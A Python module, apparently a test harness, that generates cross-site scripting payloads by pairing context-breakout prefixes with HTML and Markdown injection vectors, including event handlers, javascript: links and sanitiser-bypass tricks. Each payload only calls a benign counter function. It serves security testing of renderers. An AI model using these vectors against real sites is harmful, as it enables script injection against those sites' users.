"""Texts that would run a script on a page that puts them in as they are: ways out of a place, and ways to run."""

from collections.abc import Sequence
from itertools import product

MARKS = "zq{}z"  # stands as text beside each, so that it can be seen that a page shows it
# What is called; `ran` is the function of the browser that counts.
CALLS = ("ran({})", "top.ran({})", "window['ran']({})", "self.ran({},1)", "globalThis.ran({})")
# Ways out of a place where a text may stand.
OUT_OF = (
    "", '"', "'", '">', "'>", "-->", "]]>", "</title>", "</textarea></select>", "</script>", "</style>",
    "</code></pre>", "`", "&quot;&gt;", "\\\">", "</template>", "*/", "%22%3E",
)  # fmt: skip
# Ways to run @ from text that is read as HTML.
HTML = (
    "<script>@</script>",
    "<ScRiPt >@</sCrIpT >",
    "<script src=\"data:text/javascript,@\"></script>",
    "<img src=x onerror=@>",
    "<img src='x'onerror='@'//",
    "<IMG SRC=x OnErRoR = \"@\">",
    "<img/src=x/onerror=@>",
    "<svg onload=@>",
    "<svg><script>@</script></svg>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:@\"><text y=9>x</text></a></svg>",
    "<body onload=@>",
    "<details open ontoggle=@>x</details>",
    "<input autofocus onfocus=@>",
    "<textarea autofocus onfocus=@></textarea>",
    "<p tabindex=1 autofocus onfocus=@>x</p>",
    "<video><source onerror=@></video>",
    "<audio src=x onerror=@></audio>",
    "<iframe srcdoc=\"<script>parent.@</script>\"></iframe>",
    "<iframe src=\"javascript:parent.@\"></iframe>",
    "<object data=\"javascript:@\"></object>",
    "<embed src=\"javascript:@\">",
    "<a href=\"javascript:@\">x</a>",
    "<a href=\"jav&#x09;asc&#10;ript:@\">x</a>",
    "<a href=\" &#14; javascript:@\">x</a>",
    "<form action=\"javascript:@\"><button>x</button></form>",
    "<button formaction=\"javascript:@\" form=x>x</button>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=@&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=@>\">",
    "<div onmouseover=@ style=position:fixed;inset:0>x</div>",
    "<b hx-on:click=\"@\" hx-get=/ hx-trigger=load>x</b>",
    "<style>@import'x';</style><img src=x onerror=@>",
    "<link rel=stylesheet href=x onerror=@>",
)  # fmt: skip
# Ways to run @ from text that is read as Markdown.
MARKDOWN = (
    "[x](javascript:@)",
    "[x](JaVaScRiPt:@ \"title\")",
    "[x](<javascript:@>)",
    "[x](&#106;avascript:@)",
    "[x](vbscript:@)",
    "[x](data:text/html;base64,PHNjcmlwdD50b3AucmFuKDEpPC9zY3JpcHQ+)",
    "![x](x\"onerror=\"@)",
    "![x\" onerror=\"@](x)",
    "[x](x \"onmouseover='@'\")",
    "<javascript:@>",
    "<https://x.example/\"onmouseover=\"@>",
    "```html\"onmouseover=\"@\nx\n```",
    "`<img src=x onerror=@>`",
    "\\<img src=x onerror=@>",
    "$\\href{javascript:@}{x}$",
    "==<img src=x onerror=@>==",
    "[[x|<img src=x onerror=@>]]",
    "<!-- --!><img src=x onerror=@> -->",
    "| <img src=x onerror=@> |\n|-|",
    "[x]: javascript:@\n[x]",
)  # fmt: skip


def payloads() -> Sequence[str]:
    """All of them, each with the number that it calls `ran` with: its place in the list."""
    made = [out + way for out, way in product(OUT_OF, HTML)] + [*MARKDOWN]
    return [
        f"{one.replace('@', CALLS[number % len(CALLS)].format(number))} {MARKS.format(number)}"
        for number, one in enumerate(made)
    ]
